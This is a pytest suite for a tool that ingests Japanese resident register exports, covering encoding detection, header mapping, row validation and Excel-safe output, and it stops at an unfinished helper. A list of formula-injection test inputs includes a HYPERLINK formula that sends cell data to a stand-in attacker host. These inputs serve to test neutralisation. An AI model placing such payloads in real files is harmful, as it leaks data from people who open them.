"""Reading a register export and checking its rows, and writing files staff open
in Excel."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date, datetime
from pathlib import Path

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rrnet_cli import files, ingest, schema
from rrnet_cli.errors import UsageError

TODAY = date(2024, 1, 1)
REQUIRED = ["resident_id", "name", "birth_date", "sex", "nationality", "address"]

#: A resident whose every column is good.
GOOD = {
    "resident_id": "000123",
    "household_id": "H0001",
    "name": "NGUYEN VAN AN",
    "name_kanji": "阮文安",
    "alias": "山田 花子",
    "alias_kana": "ヤマダ ハナコ",
    "birth_date": "1990-04-01",
    "sex": "F",
    "nationality": "VNM",
    "postal_code": "123-4567",
    "address": "さくら市中央1-2-3",
    "foreign_resident_category": "中長期在留者",
    "residence_status": "技術・人文知識・国際業務",
    "stay_expiry": "2026-03-31",
    "residence_card_number": "AB12345678CD",
    "planned_move_out_date": "",
    "resident_code": "",
    "language": "vi",
}
COLUMNS = list(GOOD)

#: The Japanese headers municipal systems print, per canonical column (written out
#: here, not taken from rrnet_cli.schema).
SPEC_HEADERS = {
    "resident_id": ["宛名番号", "住民番号", "識別番号"],
    "household_id": ["世帯番号"],
    "name": ["氏名", "氏名_外国人ローマ字", "氏名（アルファベット）"],
    "name_kanji": ["氏名_外国人漢字", "漢字氏名"],
    "alias": ["通称"],
    "alias_kana": ["通称_フリガナ", "通称カナ"],
    "birth_date": ["生年月日"],
    "sex": ["性別"],
    "nationality": ["国籍・地域", "国籍名等", "国籍"],
    "postal_code": ["郵便番号"],
    "address": ["住所"],
    "foreign_resident_category": ["外国人住民区分", "30条45規定区分"],
    "residence_status": ["在留資格"],
    "stay_expiry": ["在留期間の満了の日", "在留期間満了日"],
    "residence_card_number": ["在留カード番号", "在留カード等の番号"],
    "planned_move_out_date": ["転出予定日", "転出予定年月日"],
    "resident_code": ["住民票コード"],
    "language": ["通知言語", "言語"],
}
SIX_CATEGORIES = [
    "中長期在留者",
    "特別永住者",
    "一時庇護許可者",
    "仮滞在許可者",
    "出生による経過滞在者",
    "国籍喪失による経過滞在者",
]


def csv_text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def person(i: int = 0, **overrides: str) -> dict[str, str]:
    """GOOD with a distinct resident_id per i, then the overrides."""
    return {**GOOD, "resident_id": f"{123 + i:06d}", **overrides}


def write_export(
    path: Path,
    people: list[dict[str, str]],
    *,
    columns: list[str] | None = None,
    encoding: str = "utf-8",
) -> Path:
    if columns is None:
        columns = list(people[0]) if people else COLUMNS
    text = csv_text(columns, [[p.get(c, "") for c in columns] for p in people])
    path.write_bytes(text.encode(encoding))
    return path


def read(path: Path, **kwargs: object) -> ingest.Export:
    return ingest.read_export(path, **kwargs)  # type: ignore[arg-type]


def check(path: Path, **kwargs: object) -> tuple[pl.DataFrame, list[tuple[int, str, str]]]:
    frame, errors = ingest.validate_register(read(path, **kwargs), today=TODAY)
    return frame, [(r["row"], r["column"], r["reason"]) for r in errors.iter_rows(named=True)]


def errors_for_third_person(tmp_path: Path, **overrides: str) -> list[tuple[int, str, str]]:
    """Two good residents, then one with ``overrides``: that one is row 4."""
    people = [person(0), person(1), person(2, **overrides)]
    _, errors = check(write_export(tmp_path / "export.csv", people))
    return errors


# ---------------------------------------------------------------------------
# Encodings


def test_utf8_is_detected(tmp_path: Path) -> None:
    export = read(write_export(tmp_path / "e.csv", [person(name_kanji="髙橋")]))
    assert export.encoding == "utf-8"
    assert export.frame["name_kanji"].to_list() == ["髙橋"]


def test_utf8_with_bom_is_detected_and_the_bom_is_not_part_of_the_first_header(
    tmp_path: Path,
) -> None:
    path = write_export(tmp_path / "e.csv", [person()], encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    export = read(path)
    assert export.encoding == "utf-8-sig"
    assert export.frame.columns[1] == "resident_id"
    assert export.frame["resident_id"].to_list() == ["000123"]


def test_cp932_is_detected_with_japanese_headers_and_vendor_characters(tmp_path: Path) -> None:
    # 髙 and ① exist in CP932 (Windows) but not in plain Shift_JIS.
    header = ["宛名番号", "氏名", "漢字氏名", "生年月日", "性別", "国籍・地域", "住所"]
    rows = [["000123", "NGUYEN VAN AN", "髙橋①", "1990/04/01", "女", "ベトナム", "さくら市～1"]]
    path = tmp_path / "e.csv"
    path.write_bytes(csv_text(header, rows).encode("cp932"))
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    export = read(path)
    assert export.encoding == "cp932"
    row = export.frame.row(0, named=True)
    assert row["name_kanji"] == "髙橋①"
    assert row["address"] == "さくら市～1"
    assert row["nationality"] == "ベトナム"
    _, errors = ingest.validate_register(export, today=TODAY)
    assert errors.is_empty()


def test_explicit_utf8_on_a_cp932_file_names_the_line(tmp_path: Path) -> None:
    people = [person(0, address="Sakura 1"), person(1, address="Sakura 2"), person(2)]
    path = tmp_path / "e.csv"
    # Lines 1-3 are ASCII; line 4 holds the first Japanese text.
    cols = [c for c in COLUMNS if c not in ("name_kanji", "alias", "alias_kana")]
    cols = [c for c in cols if c not in ("foreign_resident_category", "residence_status")]
    write_export(path, people, columns=cols, encoding="cp932")
    assert read(path).encoding == "cp932"
    with pytest.raises(UsageError, match=r"not valid UTF-8 near line 4") as info:
        read(path, encoding="utf-8")
    assert "cp932" in info.value.message


def test_explicit_cp932_reads_a_cp932_file(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [person()], encoding="cp932")
    export = read(path, encoding="cp932")
    assert export.frame["address"].to_list() == [GOOD["address"]]


def test_neither_utf8_nor_cp932_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    # 0x81 is a CP932 lead byte that a space cannot follow; invalid UTF-8 too.
    path.write_bytes(
        csv_text(REQUIRED, [["1", "A", "1990-01-01", "M", "VNM", "x"]]).encode() + b"\x81 \n"
    )
    with pytest.raises(UsageError, match="Cannot tell the encoding"):
        read(path)


def test_unknown_encoding_option_is_refused(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [person()])
    with pytest.raises(UsageError, match="Unknown encoding"):
        read(path, encoding="latin-1")


def test_binary_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_bytes(b"resident_id,name\n\x00\x01\x02\xff\x00garbage")
    with pytest.raises(UsageError, match="binary data"):
        read(path)


def test_utf16_file_is_refused_as_utf16(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [person()], encoding="utf-16")
    with pytest.raises(UsageError, match=r'is UTF-16 text.*"CSV UTF-8"'):
        read(path)


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\n\n", b"  \r\n"])
def test_empty_file_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "e.csv"
    path.write_bytes(content)
    with pytest.raises(UsageError, match="is empty"):
        read(path)


def test_missing_file_and_folder_are_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="does not exist"):
        read(tmp_path / "nope.csv")
    with pytest.raises(UsageError, match="is a folder"):
        read(tmp_path)


# ---------------------------------------------------------------------------
# CSV shape


@pytest.mark.parametrize("ending", ["\n", "\r\n", ""], ids=["lf", "crlf", "no-final-newline"])
def test_header_only_file_is_valid_with_no_rows(tmp_path: Path, ending: str) -> None:
    path = tmp_path / "e.csv"
    path.write_text(",".join(REQUIRED) + ending, encoding="utf-8")
    export = read(path)
    assert export.rows == 0
    frame, errors = ingest.validate_register(export, today=TODAY)
    assert frame.height == 0
    assert errors.is_empty()


def test_last_row_without_final_newline_is_read(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_text(csv_text(COLUMNS, [list(person().values())]).rstrip("\n"), encoding="utf-8")
    assert read(path).rows == 1


def test_quoted_newline_inside_a_field_is_one_row(tmp_path: Path) -> None:
    people = [person(0, address="さくら市\n中央1-2-3"), person(1, birth_date="1990-02-30")]
    path = write_export(tmp_path / "e.csv", people)
    frame, errors = check(path)
    assert frame.height == 2
    assert frame["address"].to_list()[0] == "さくら市\n中央1-2-3"
    # The person after the multi-line cell is still spreadsheet row 3.
    assert errors == [(3, "birth_date", errors[0][2])]


def test_crlf_file_is_read(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_bytes(csv_text(COLUMNS, [list(person().values())]).replace("\n", "\r\n").encode())
    frame, errors = check(path)
    assert frame["language"].to_list() == ["vi"]  # no stray \r
    assert errors == []


@pytest.mark.parametrize(
    ("bad_line", "fields"),
    [("000999,X,1990-01-01,M,VNM,x,EXTRA", 7), ("000999,X", 2)],
    ids=["too-many", "too-few"],
)
def test_ragged_rows_are_refused_with_their_row_number(
    tmp_path: Path, bad_line: str, fields: int
) -> None:
    good = "000001,A,1990-01-01,M,VNM,x"
    path = tmp_path / "e.csv"
    path.write_text(
        "\n".join([",".join(REQUIRED), good, good.replace("1", "2", 1), bad_line, good]) + "\n",
        encoding="utf-8",
    )
    with pytest.raises(UsageError) as info:
        read(path)
    message = info.value.message
    assert f"row 4 has {fields} fields" in message
    assert "6 fields" in message
    assert "000999" not in message  # no personal data in the message


def test_too_many_and_too_few_fields_are_both_listed(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    lines = [",".join(REQUIRED), "1,A,1990-01-01,M,VNM,x,extra", "2,B", "3,C,1990-01-01,M,VNM,x"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(UsageError, match=r"2 row\(s\).*row 2 has 7 fields; row 3 has 2 fields"):
        read(path)


def test_row_numbers_after_a_blank_line_match_the_spreadsheet(tmp_path: Path) -> None:
    """A spreadsheet shows the blank line as row 3, so the next person is row 4 —
    as the ragged-row message already counts it. The blank rows are skipped and
    counted, an empty line and ",,,,," alike."""
    lines = [",".join(REQUIRED), "1,A,1990-01-01,M,VNM,x", "", ",,,,,", "2,B,1990-13-01,M,VNM,x"]
    path = tmp_path / "e.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    export = read(path)
    assert export.blank_rows_skipped == 2
    assert export.frame[schema.ROW].to_list() == [2, 5]
    _, errors = check(path)
    assert [(row, column) for row, column, _ in errors] == [(5, "birth_date")]


@pytest.mark.parametrize("duplicate", ["name", "備考"])
def test_duplicate_header_names_are_refused(tmp_path: Path, duplicate: str) -> None:
    path = tmp_path / "e.csv"
    path.write_text(",".join([*REQUIRED, "備考", duplicate]) + "\n", encoding="utf-8")
    with pytest.raises(UsageError, match=f"column '{duplicate}' appears twice"):
        read(path)


def test_unnamed_empty_column_is_dropped(tmp_path: Path) -> None:
    """An unnamed column without a value is what a spreadsheet leaves behind."""
    path = tmp_path / "e.csv"
    path.write_text(",".join([*REQUIRED, ""]) + "\n", encoding="utf-8")
    assert read(path).frame.columns == [schema.ROW, *REQUIRED]


def test_unnamed_column_with_values_is_refused_by_position(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_text(",".join([*REQUIRED, ""]) + "\n1,A,1990-01-01,M,VNM,x,y\n", encoding="utf-8")
    with pytest.raises(UsageError, match=r"column 7 \(after address\) has values but no header"):
        read(path)


# ---------------------------------------------------------------------------
# Headers


@pytest.mark.parametrize(
    ("header", "canonical"),
    [(h, c) for c, hs in SPEC_HEADERS.items() for h in hs],
)
def test_japanese_header_maps_to_canonical_name(
    tmp_path: Path, header: str, canonical: str
) -> None:
    columns = [c for c in COLUMNS if c != canonical]
    path = tmp_path / "e.csv"
    row = person()
    path.write_text(
        csv_text([*columns, header], [[row[c] for c in columns] + [row[canonical]]]),
        encoding="utf-8",
    )
    export = read(path)
    assert canonical in export.frame.columns
    assert header not in export.frame.columns
    assert export.recognised[header] == canonical
    assert export.frame[canonical].to_list() == [row[canonical] or None]


def test_all_japanese_headers_file_validates(tmp_path: Path) -> None:
    header = [SPEC_HEADERS[c][0] for c in COLUMNS]
    path = tmp_path / "e.csv"
    path.write_text(csv_text(header, [list(person().values())]), encoding="utf-8")
    frame, errors = check(path)
    assert errors == []
    assert [c for c in frame.columns if not c.startswith("__")] == COLUMNS


@pytest.mark.parametrize("header", ["Resident_ID", " RESIDENT_ID ", "ｒｅｓｉｄｅｎｔ＿ｉｄ"])
def test_canonical_header_case_width_and_spaces_do_not_matter(tmp_path: Path, header: str) -> None:
    path = tmp_path / "e.csv"
    path.write_text(
        csv_text([header, *REQUIRED[1:]], [["000007", "A", "1990-01-01", "M", "VN", "x"]]),
        encoding="utf-8",
    )
    export = read(path)
    assert export.frame["resident_id"].to_list() == ["000007"]


def test_mapping_file_maps_unusual_headers(tmp_path: Path) -> None:
    mapping_path = tmp_path / "map.toml"
    mapping_path.write_text(
        '[columns]\n"宛名コード" = "resident_id"\n"ローマ字氏名" = "name"\n'
        '"既存コード" = "resident_code"\n',
        encoding="utf-8",
    )
    mapping = schema.load_mapping(mapping_path)
    header = ["宛名コード", "ローマ字氏名", "生年月日", "性別", "国籍", "住所", "既存コード"]
    path = tmp_path / "e.csv"
    path.write_text(
        csv_text(header, [["000123", "A", "1990-01-01", "M", "VNM", "x", "00000000060"]]),
        encoding="utf-8",
    )
    with pytest.raises(UsageError, match="resident_id"):
        ingest.validate_register(read(path), today=TODAY)  # not recognised without the mapping
    frame, errors = check(path, mapping=mapping)
    assert errors == []
    assert frame["resident_id"].to_list() == ["000123"]
    assert frame["resident_code"].to_list() == ["00000000060"]
    assert frame["name"].to_list() == ["A"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('[columns]\n"x" = "no_such_column"\n', "unknown column 'no_such_column'"),
        ("[columns\n", "not valid TOML"),
        ('[other]\n"x" = "name"\n', r"needs a \[columns\] table"),
    ],
)
def test_bad_mapping_file_is_refused(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "map.toml"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(UsageError, match=message):
        schema.load_mapping(path)


def test_missing_mapping_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="does not exist"):
        schema.load_mapping(tmp_path / "nope.toml")


@pytest.mark.parametrize(
    ("first", "second", "canonical"),
    [
        ("宛名番号", "resident_id", "resident_id"),
        ("氏名", "氏名_外国人ローマ字", "name"),
        ("国籍", "国籍・地域", "nationality"),
    ],
)
def test_two_headers_meaning_one_column_are_refused(
    tmp_path: Path, first: str, second: str, canonical: str
) -> None:
    header = [c for c in REQUIRED if c != canonical] + [first, second]
    path = tmp_path / "e.csv"
    path.write_text(",".join(header) + "\n", encoding="utf-8")
    with pytest.raises(UsageError, match=f"both mean '{canonical}'"):
        read(path)


def test_mapping_onto_a_column_already_present_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "e.csv"
    path.write_text(",".join([*REQUIRED, "宛名コード"]) + "\n", encoding="utf-8")
    with pytest.raises(UsageError, match="both mean 'resident_id'"):
        read(path, mapping={schema.header_key("宛名コード"): "resident_id"})


@pytest.mark.parametrize("missing", REQUIRED)
def test_each_missing_required_column_is_named(tmp_path: Path, missing: str) -> None:
    columns = [c for c in COLUMNS if c != missing]
    path = write_export(tmp_path / "e.csv", [person()], columns=columns)
    with pytest.raises(UsageError, match="lacks required column") as info:
        ingest.validate_register(read(path), today=TODAY)
    assert f"{missing} (" in info.value.message
    # The Japanese header is suggested, so staff know what to rename.
    assert SPEC_HEADERS[missing][0] in info.value.message
    others = [c for c in REQUIRED if c != missing]
    assert not any(f"{c} (" in info.value.message for c in others)


def test_extra_columns_are_carried_through_untouched(tmp_path: Path) -> None:
    columns = ["備考", *COLUMNS, "memo", "担当"]
    row = {**person(), "備考": "  spaced  ", "memo": "=1+2", "担当": "007"}
    path = write_export(tmp_path / "e.csv", [row], columns=columns)
    frame, errors = check(path)
    assert errors == []
    assert [c for c in frame.columns if not c.startswith("__")] == columns
    assert frame.row(0, named=True)["備考"] == "  spaced  "
    assert frame["memo"].to_list() == ["=1+2"]
    assert frame["担当"].to_list() == ["007"]
    assert frame["memo"].dtype == pl.String


def test_leading_zeros_are_kept(tmp_path: Path) -> None:
    people = [person(resident_id="000123", resident_code="00000000060", postal_code="012-0001")]
    frame, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == []
    assert frame["resident_id"].to_list() == ["000123"]
    assert frame["resident_code"].to_list() == ["00000000060"]
    assert frame["postal_code"].to_list() == ["012-0001"]
    assert frame[ingest.N_RESIDENT_CODE].to_list() == ["00000000060"]


# ---------------------------------------------------------------------------
# Parquet


def write_parquet(path: Path, **overrides: pa.Array) -> Path:
    data: dict[str, pa.Array] = {c: pa.array([GOOD[c] or None], pa.string()) for c in COLUMNS}
    data.update(overrides)
    pq.write_table(pa.table(data), path)
    return path


def test_parquet_all_strings_is_read(tmp_path: Path) -> None:
    path = write_parquet(tmp_path / "e.parquet", resident_code=pa.array(["00000000060"]))
    export = read(path)
    assert export.encoding is None
    frame, errors = ingest.validate_register(export, today=TODAY)
    assert errors.is_empty()
    assert frame["resident_code"].to_list() == ["00000000060"]
    assert frame["resident_id"].to_list() == ["000123"]


def test_parquet_first_person_is_row_1(tmp_path: Path) -> None:
    path = write_parquet(tmp_path / "e.parquet", sex=pa.array(["X"]))
    _, errors = ingest.validate_register(read(path), today=TODAY)
    assert errors.select("row", "column").rows() == [(1, "sex")]


@pytest.mark.parametrize("column", ["resident_code", "住民票コード", "postal_code"])
def test_parquet_integer_code_column_is_refused(tmp_path: Path, column: str) -> None:
    data = {c: pa.array([GOOD[c]]) for c in REQUIRED}
    data[column] = pa.array([60], pa.int64())
    path = tmp_path / "e.parquet"
    pq.write_table(pa.table(data), path)
    with pytest.raises(UsageError, match="leading zeros"):
        read(path)


@pytest.mark.parametrize(
    "value",
    [
        pa.array([date(1990, 4, 1)], pa.date32()),
        pa.array([datetime(1990, 4, 1, 9, 30)], pa.timestamp("s")),
    ],
    ids=["date32", "timestamp"],
)
def test_parquet_date_column_is_accepted_as_iso_text(tmp_path: Path, value: pa.Array) -> None:
    path = write_parquet(tmp_path / "e.parquet", birth_date=value)
    frame, errors = ingest.validate_register(read(path), today=TODAY)
    assert errors.is_empty()
    assert frame["birth_date"].to_list() == ["1990-04-01"]


def test_parquet_future_date_column_is_checked(tmp_path: Path) -> None:
    path = write_parquet(tmp_path / "e.parquet", birth_date=pa.array([date(2030, 1, 1)]))
    _, errors = ingest.validate_register(read(path), today=TODAY)
    assert errors.select("row", "column").rows() == [(1, "birth_date")]


def test_parquet_dictionary_strings_are_accepted(tmp_path: Path) -> None:
    path = write_parquet(tmp_path / "e.parquet", sex=pa.array(["F"]).dictionary_encode())
    assert read(path).frame["sex"].to_list() == ["F"]


@pytest.mark.parametrize("content", [b"", b"PAR1 this is not parquet", b"resident_id,name\n1,A\n"])
def test_unreadable_parquet_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "e.parquet"
    path.write_bytes(content)
    with pytest.raises(UsageError, match="cannot be read as Parquet"):
        read(path)


# ---------------------------------------------------------------------------
# validate_register: every rule, with the right row and column

INVALID_CASES = [
    # birth_date: unparseable, impossible, future, too old — in each format
    ("birth_date", "1990.04.31", "not a real date"),
    ("birth_date", "01/04/1990", "not a date (expected"),
    ("birth_date", "April 1990", "not a date (expected"),
    ("birth_date", "平成31年5月1日", "平成 ended on 2019-04-30; that day is in 令和"),
    ("birth_date", "昭和64年1月8日", "昭和 ended on 1989-01-07; that day is in 平成"),
    ("birth_date", "H13.2.29", "no such day"),
    ("birth_date", "1990-02-30", "not a real date"),
    ("birth_date", "1990/02/30", "not a real date"),
    ("birth_date", "19900230", "not a real date"),
    ("birth_date", "2023-02-29", "not a real date"),
    ("birth_date", "1990-13-01", "not a real date"),
    ("birth_date", "19901301", "not a real date"),
    ("birth_date", "2024-01-02", "in the future"),
    ("birth_date", "2024/01/02", "in the future"),
    ("birth_date", "20240102", "in the future"),
    ("birth_date", "1879-12-31", "before 1880"),
    ("birth_date", "1879/12/31", "before 1880"),
    ("birth_date", "18791231", "before 1880"),
    ("sex", "X", "男/女, M/F or 1/2"),
    ("sex", "male", "男/女, M/F or 1/2"),
    ("sex", "3", "男/女, M/F or 1/2"),
    ("sex", "0", "男/女, M/F or 1/2"),
    ("nationality", "XX", "ISO 3166"),
    ("nationality", "ZZZ", "ISO 3166"),
    ("nationality", "vnx", "ISO 3166"),
    ("postal_code", "123-456", "NNN-NNNN"),
    ("postal_code", "1234-567", "NNN-NNNN"),
    ("postal_code", "123456", "NNN-NNNN"),
    ("postal_code", "abc-defg", "NNN-NNNN"),
    ("foreign_resident_category", "永住者", "six categories"),
    ("foreign_resident_category", "中長期", "six categories"),
    ("stay_expiry", "2026-02-30", "not a real date"),
    ("stay_expiry", "令和8年2月29日", "not a real date"),
    ("residence_card_number", "AB1234567CD", "residence card number"),
    ("residence_card_number", "AB123456789CD", "residence card number"),
    ("residence_card_number", "A12345678BCD", "residence card number"),
    ("alias", "Yamada Hanako", "kana and kanji only"),
    ("alias", "山田1号", "kana and kanji only"),
    ("alias_kana", "山田", "kana only"),
    ("alias_kana", "Yamada", "kana only"),
    ("resident_code", "1234567890", "does not have 11 digits"),
    ("resident_code", "123456789031", "does not have 11 digits"),
    ("resident_code", "1234567890A", "other than digits"),
    ("resident_code", "12345678904", "check digit"),
    ("resident_code", "00000000061", "check digit"),
]


@pytest.mark.parametrize(("column", "value", "reason"), INVALID_CASES)
def test_invalid_value_is_reported_on_its_row_and_column(
    tmp_path: Path, column: str, value: str, reason: str
) -> None:
    errors = errors_for_third_person(tmp_path, **{column: value})
    assert [(row, col) for row, col, _ in errors] == [(4, column)], errors
    assert reason in errors[0][2]
    if len(value) >= 4:
        assert value not in errors[0][2]  # reasons carry no personal data


VALID_CASES = [
    ("birth_date", "1990-04-01"),
    ("birth_date", "1990/04/01"),
    ("birth_date", "19900401"),
    ("birth_date", "2000-02-29"),
    ("birth_date", "1880-01-01"),
    ("birth_date", "2024-01-01"),  # born today
    ("birth_date", "１９９０－０４－０１"),
    ("birth_date", " 1990-04-01 "),
    *[("sex", v) for v in ["男", "女", "M", "F", "1", "2", "m", "f", "Ｍ"]],
    *[
        ("nationality", v)
        for v in ["VNM", "VN", "vn", "CHN", "PHL", "ベトナム", "Viet Nam", "中国"]
    ],
    *[("postal_code", v) for v in ["123-4567", "1234567", "〒123-4567", "１２３－４５６７", ""]],
    *[("foreign_resident_category", v) for v in SIX_CATEGORIES],
    ("foreign_resident_category", ""),
    *[("stay_expiry", v) for v in ["2026-03-31", "2026/03/31", "20260331", ""]],
    *[("residence_card_number", v) for v in ["AB12345678CD", "ＡＢ１２３４５６７８ＣＤ", ""]],
    *[("residence_card_number", v) for v in ["ab12345678cd", "ab 12345678 cd", "AB-1234-5678-CD"]],
    *[("alias", v) for v in ["山田 花子", "やまだ", "ヤマダ", "佐々木", "ｻｻｷ", "メアリー・スミス"]],
    *[("alias_kana", v) for v in ["ヤマダ ハナコ", "やまだ はなこ", "ｻｻｷ", "メアリー・スミス"]],
    *[("language", v) for v in [*schema.LANGUAGES, "EN", "zh-hans", ""]],
    # Tags notify understands, and real languages without a notice (default used).
    *[("language", v) for v in ["zh", "zh-CN", "pt-BR", "ｖｉ", "English", "fr", "my", "th-TH"]],
    *[
        ("resident_code", v)
        for v in [
            "12345678903",
            "00000000060",
            "70935378190",
            "１２３４５６７８９０３",
            "1234-5678-903",
            " 1234 5678 903 ",
            "",
        ]
    ],
]


@pytest.mark.parametrize(("column", "value"), VALID_CASES)
def test_valid_value_is_accepted(tmp_path: Path, column: str, value: str) -> None:
    assert errors_for_third_person(tmp_path, **{column: value}) == []


@pytest.mark.parametrize("column", REQUIRED)
@pytest.mark.parametrize("value", ["", "   ", "\u3000"])
def test_required_value_empty_is_reported(tmp_path: Path, column: str, value: str) -> None:
    errors = errors_for_third_person(tmp_path, **{column: value})
    assert errors == [(4, column, "required value is empty")]


def test_several_errors_are_all_reported_sorted_by_row(tmp_path: Path) -> None:
    people = [
        person(0, sex="X"),
        person(1),
        person(2, birth_date="2099-01-01", postal_code="1"),
        person(3, residence_card_number="AB1234567CD"),
    ]
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert sorted((r, c) for r, c, _ in errors) == [
        (2, "sex"),
        (4, "birth_date"),
        (4, "postal_code"),
        (5, "residence_card_number"),
    ]
    assert [r for r, _, _ in errors] == sorted(r for r, _, _ in errors)


def test_duplicate_resident_id_points_at_the_other_row(tmp_path: Path) -> None:
    people = [person(0, resident_id="000777"), person(1), person(2, resident_id="000777")]
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == [
        (2, "resident_id", "same resident_id as row 4"),
        (4, "resident_id", "same resident_id as row 2"),
    ]


def test_duplicate_resident_id_across_three_rows_lists_the_others(tmp_path: Path) -> None:
    people = [person(0, resident_id="9"), person(1, resident_id="9"), person(2, resident_id="9")]
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == [
        (2, "resident_id", "same resident_id as row 3, 4"),
        (3, "resident_id", "same resident_id as row 2, 4"),
        (4, "resident_id", "same resident_id as row 2, 3"),
    ]


def test_duplicate_resident_id_lists_the_first_five_other_rows_in_order(tmp_path: Path) -> None:
    people = [person(i, resident_id="9") for i in range(8)]  # rows 2..9
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert len(errors) == 8
    assert errors[0] == (2, "resident_id", "same resident_id as row 3, 4, 5, 6, 7")
    assert errors[-1] == (9, "resident_id", "same resident_id as row 2, 3, 4, 5, 6")


def test_resident_ids_differing_only_in_leading_zeros_are_distinct(tmp_path: Path) -> None:
    people = [person(0, resident_id="000123"), person(1, resident_id="123")]
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == []


def test_resident_id_written_in_full_width_is_the_same_id(tmp_path: Path) -> None:
    people = [person(0, resident_id="000123"), person(1, resident_id="０００１２３")]
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert [(r, c) for r, c, _ in errors] == [(2, "resident_id"), (3, "resident_id")]


@pytest.mark.parametrize("second", ["12345678903", "１２３４ ５６７８ ９０３", "1234-5678-903"])
def test_same_resident_code_on_two_rows_is_reported(tmp_path: Path, second: str) -> None:
    people = [person(0, resident_code="12345678903"), person(1), person(2, resident_code=second)]
    _, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == [
        (2, "resident_code", "same resident_code as row 4"),
        (4, "resident_code", "same resident_code as row 2"),
    ]


def test_full_width_code_is_accepted_and_normalised(tmp_path: Path) -> None:
    people = [person(resident_code="００００００００ ０６０")]
    frame, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == []
    assert frame[ingest.N_RESIDENT_CODE].to_list() == ["00000000060"]
    assert frame["resident_code"].to_list() == ["００００００００ ０６０"]  # input untouched


@pytest.mark.parametrize(
    ("value", "moving_out"),
    [
        ("2024-04-01", True),
        ("2024/04/01", True),
        ("予定", True),
        ("x", True),
        ("0", True),
        ("", False),
        ("  ", False),
    ],
)
def test_planned_move_out_any_value_marks_the_row(
    tmp_path: Path, value: str, moving_out: bool
) -> None:
    people = [person(0), person(1, planned_move_out_date=value)]
    frame, errors = check(write_export(tmp_path / "e.csv", people))
    assert errors == []
    assert frame[ingest.MOVE_OUT].to_list() == [False, moving_out]


def test_no_move_out_column_means_nobody_moves_out(tmp_path: Path) -> None:
    columns = [c for c in COLUMNS if c != "planned_move_out_date"]
    frame, _ = check(write_export(tmp_path / "e.csv", [person()], columns=columns))
    assert frame[ingest.MOVE_OUT].to_list() == [False]


def test_japanese_move_out_header_marks_the_row(tmp_path: Path) -> None:
    columns = [c for c in COLUMNS if c != "planned_move_out_date"]
    row = person()
    path = tmp_path / "e.csv"
    path.write_text(
        csv_text([*columns, "転出予定日"], [[row[c] for c in columns] + ["R6.4.1"]]),
        encoding="utf-8",
    )
    frame, errors = check(path)
    assert errors == []
    assert frame[ingest.MOVE_OUT].to_list() == [True]


def test_describe_errors_leaves_values_out_unless_verbose(tmp_path: Path) -> None:
    path = write_export(tmp_path / "e.csv", [person(birth_date="2099-12-31")])
    _, errors = ingest.validate_register(read(path), today=TODAY)
    quiet = ingest.describe_errors(errors, path)
    assert quiet == [f"{path} row 2, birth_date: birth date is in the future"]
    loud = ingest.describe_errors(errors, path, verbose=True)
    assert "2099-12-31" in loud[0]


# ---------------------------------------------------------------------------
# files: Excel-safe, private, atomic output

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+81 90 1234 5678",
    "-5",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "'leading apostrophe",
    "'=already guarded",
    "'",
    "''",
    "plain",
    "a=b",
    "",
    None,
]


def test_neutralise_guards_every_trigger_and_restore_undoes_it() -> None:
    frame = pl.DataFrame({"v": HOSTILE, "n": list(range(len(HOSTILE)))})
    safe = files.neutralise_formulas(frame)
    for before, after in zip(HOSTILE, safe["v"].to_list(), strict=True):
        if before and before[0] in "=+-@\t\r'":
            assert after == "'" + before
        else:
            assert after == before
    assert safe["n"].to_list() == frame["n"].to_list()  # numbers are not touched
    assert files.restore_formulas(safe).equals(frame)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(max_size=8),
            st.tuples(
                st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''"]), st.text(max_size=6)
            ).map("".join),
        ),
        max_size=20,
    )
)
def test_neutralise_restore_round_trip(values: list[str | None]) -> None:
    frame = pl.DataFrame({"v": values}, schema={"v": pl.String})
    safe = files.neutralise_formulas(frame)
    for value in safe["v"].to_list():
        assert value is None or value[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert files.restore_formulas(safe)["v"].to_list() == values


def _sample_frame() -> pl.DataFrame:
